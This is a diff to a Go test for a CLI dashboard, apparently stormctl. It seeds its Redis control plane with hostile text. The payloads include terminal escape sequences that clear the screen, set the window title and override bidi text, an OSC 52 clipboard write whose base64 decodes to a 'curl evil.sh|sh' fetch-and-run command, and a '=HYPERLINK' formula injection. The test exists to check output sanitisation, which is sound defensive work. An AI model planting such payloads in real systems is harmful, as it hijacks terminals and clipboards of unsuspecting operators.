@@ -11,11 +11,42 @@ import (
 	"testing"
 	"time"
 
+	"github.com/stormctl/stormctl/actions"
 	"github.com/stormctl/stormctl/controlplane"
 	"github.com/stormctl/stormctl/internal/config"
 	"github.com/stormctl/stormctl/internal/testenv"
 	"github.com/stormctl/stormctl/journal"
+	"github.com/stormctl/stormctl/lever"
 )
+
+// hostile is what someone with Redis write access can leave for the next
+// responder: clear the screen, set the window title (OSC 0), write the
+// clipboard (OSC 52), an 8-bit CSI and a bidi override. The hostile-text
+// scripts in testdata/script seed the same payload from a file.
+const hostile = "amplification\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\u009b8m\u202eok"
+
+// seedHostile writes the payload straight into the control plane, past
+// every input check: a lever's reason and actor, a journal note, an
+// incident title.
+func seedHostile(t *testing.T, e *actionEnv) {
+	t.Helper()
+	ctx := context.Background()
+	s, err := controlplane.Open(ctx, config.Redis{URL: e.env["STORMCTL_REDIS_URL"], Namespace: "cli"}, func(string) string { return "" })
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s.Close()
+	actor := "mal\x1b[8mlory"
+	if err := seed(ctx, s, seedDoc{
+		Levers: []seedLever{{Lever: lever.Lever{Kind: lever.Retries, Target: "checkout->payments", Value: "off",
+			Actor: actor, Reason: hostile}, TTL: "10m"}},
+		Incidents: []actions.Incident{{ID: "INC-EVIL", Title: hostile, OpenedBy: actor}},
+		Journal: []journal.Entry{{Event: journal.Note, Actor: actor, Incident: "INC-EVIL",
+			Reason: "=HYPERLINK(\"http://evil\")" + hostile, Error: hostile}},
+	}); err != nil {
+		t.Fatal(err)
+	}
+}
 
 // TestDashboardHostileTextInTmux runs the real dashboard in tmux on a real
 // redis-server holding a lever whose reason sets the window title (OSC 0)
